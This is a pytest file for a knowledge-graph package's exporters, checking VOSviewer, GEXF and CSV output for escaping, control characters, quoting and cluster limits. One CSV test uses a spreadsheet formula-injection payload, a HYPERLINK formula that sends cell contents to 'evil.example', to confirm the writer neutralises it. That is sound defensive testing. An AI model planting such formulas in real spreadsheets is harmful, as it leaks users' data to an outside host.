import networkx as nx

from kg.analyse import (
    cooccurrence_network,
    detect_communities,
    read_vosviewer,
    write_gexf,
    write_vosviewer,
)
from kg.analyse.exports import VOS_COLUMNS


def test_vosviewer_files_parse_back(field_graph, tmp_path):
    network = cooccurrence_network(field_graph)
    network.nodes["entity:resnet"]["name"] = "Res\tNet\nv2"  # tabs and newlines must not break columns
    detect_communities(network)
    positions = {n: (i / 10, -i / 10) for i, n in enumerate(sorted(network))}
    ids = write_vosviewer(network, tmp_path / "map.txt", tmp_path / "network.txt", positions=positions)
    items, links = read_vosviewer(tmp_path / "map.txt", tmp_path / "network.txt")
    assert list(items[0]) == VOS_COLUMNS
    assert sorted(int(item["id"]) for item in items) == list(range(1, len(network) + 1))
    assert all(int(item["cluster"]) >= 1 for item in items)
    by_label = {item["label"]: item for item in items}
    assert "Res Net v2" in by_label
    assert int(by_label["transformer"]["weight<Occurrences>"]) == 10
    assert len(links) == network.number_of_edges()
    for a, b, strength in links:
        assert a < b
        node_a = next(n for n, i in ids.items() if i == a)
        node_b = next(n for n, i in ids.items() if i == b)
        assert network[node_a][node_b]["weight"] == strength


def test_gexf_of_the_whole_graph_parses_back(field_graph, tmp_path):
    positions = {n: (0.5, -0.5) for n in field_graph}
    write_gexf(field_graph, tmp_path / "graph.gexf", positions=positions, colours={"Paper": "#8a9299"})
    back = nx.read_gexf(tmp_path / "graph.gexf")
    assert back.number_of_nodes() == field_graph.number_of_nodes()
    paper = back.nodes["paper:00"]
    assert paper["type"] == "Paper" and paper["label"] == "Paper 0" and paper["year"] == 2019
    assert back.edges["paper:00", "entity:imagenet"]["types"] == "MENTIONS"


def test_gexf_of_the_cooccurrence_network_keeps_weights_and_communities(field_graph, tmp_path):
    network = cooccurrence_network(field_graph)
    detect_communities(network)
    write_gexf(network, tmp_path / "co.gexf")
    back = nx.read_gexf(tmp_path / "co.gexf")
    assert back.number_of_edges() == network.number_of_edges()
    a, b = next(iter(network.edges()))
    assert back.edges[a, b]["weight"] == network[a][b]["weight"]
    assert "community" in back.nodes[a]


def test_gexf_with_control_characters_is_well_formed_and_reads_back(tmp_path):
    import xml.etree.ElementTree as ET

    g = nx.MultiDiGraph()
    g.add_node("paper:1\x07", label="Paper", name="Page\x0cbreak\x00", venue="V\x0b", authors=["A\x1bB"])
    g.add_node("entity:x", label="Method", name="X\ud800")
    g.add_edge("paper:1\x07", "entity:x", key="MENTIONS", type="MENTIONS\x01")
    path = write_gexf(g, tmp_path / "graph.gexf")
    ET.parse(path)
    back = nx.read_gexf(path)
    assert sorted(back.nodes) == ["entity:x", "paper:1"]
    assert back.nodes["paper:1"]["label"] == "Page break" and back.nodes["entity:x"]["label"] == "X"
    assert back.edges["paper:1", "entity:x"]["types"] == "MENTIONS"


def test_spreadsheet_csv_cells_never_run_as_formulas(tmp_path):
    import csv

    from kg.analyse.exports import write_csv

    rows = [['=HYPERLINK("http://evil.example/?"&A1, "click")', 3, -0.5], ["+1+1", "@SUM(A1)", "-2+3"],
            ["\t=1", "GPT-4o", "a=b"]]
    path = write_csv(tmp_path / "t.csv", ["venue", "papers", "score"], rows)
    with open(path, newline="", encoding="utf-8") as handle:
        back = list(csv.reader(handle))
    assert back[0] == ["venue", "papers", "score"]
    assert back[1] == ['\'=HYPERLINK("http://evil.example/?"&A1, "click")', "3", "-0.5"]  # numbers stay numbers
    assert back[2] == ["'+1+1", "'@SUM(A1)", "'-2+3"]
    assert back[3] == ["'\t=1", "GPT-4o", "a=b"]
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for row in back for cell in row)


def test_vosviewer_labels_with_commas_or_semicolons_are_quoted_as_its_format_requires(tmp_path):
    from consumers import vosviewer_problems

    network = nx.Graph()
    names = ["Llama 2, 70B", "A; B", 'the "best" model', "GPT-4o"]
    for number, name in enumerate(names):
        network.add_node(f"entity:{number}", name=name, community=number + 1, paper_count=1)
    network.add_edge("entity:0", "entity:1", weight=2)
    network.add_edge("entity:2", "entity:3", weight=1)
    write_vosviewer(network, tmp_path / "map.txt", tmp_path / "network.txt")
    assert vosviewer_problems(tmp_path / "map.txt", tmp_path / "network.txt") == []
    lines = (tmp_path / "map.txt").read_text("utf-8").splitlines()
    assert lines[1].split("\t")[1] == '"Llama 2, 70B"' and lines[4].split("\t")[1] == "GPT-4o"
    items, _ = read_vosviewer(tmp_path / "map.txt", tmp_path / "network.txt")
    assert [item["label"] for item in items] == names


def test_vosviewer_clusters_stay_within_its_range_and_empty_maps_are_not_written(tmp_path):
    network = nx.Graph()
    network.add_edge("a", "b", weight=1)
    network.nodes["a"]["community"] = 1200
    write_vosviewer(network, tmp_path / "map.txt", tmp_path / "network.txt")
    clusters = [line.split("\t")[4] for line in (tmp_path / "map.txt").read_text("utf-8").splitlines()[1:]]
    assert clusters == ["1000", "1000"]
    assert write_vosviewer(nx.Graph(), tmp_path / "empty_map.txt", tmp_path / "empty_network.txt") == {}
    assert not (tmp_path / "empty_map.txt").exists() and not (tmp_path / "empty_network.txt").exists()
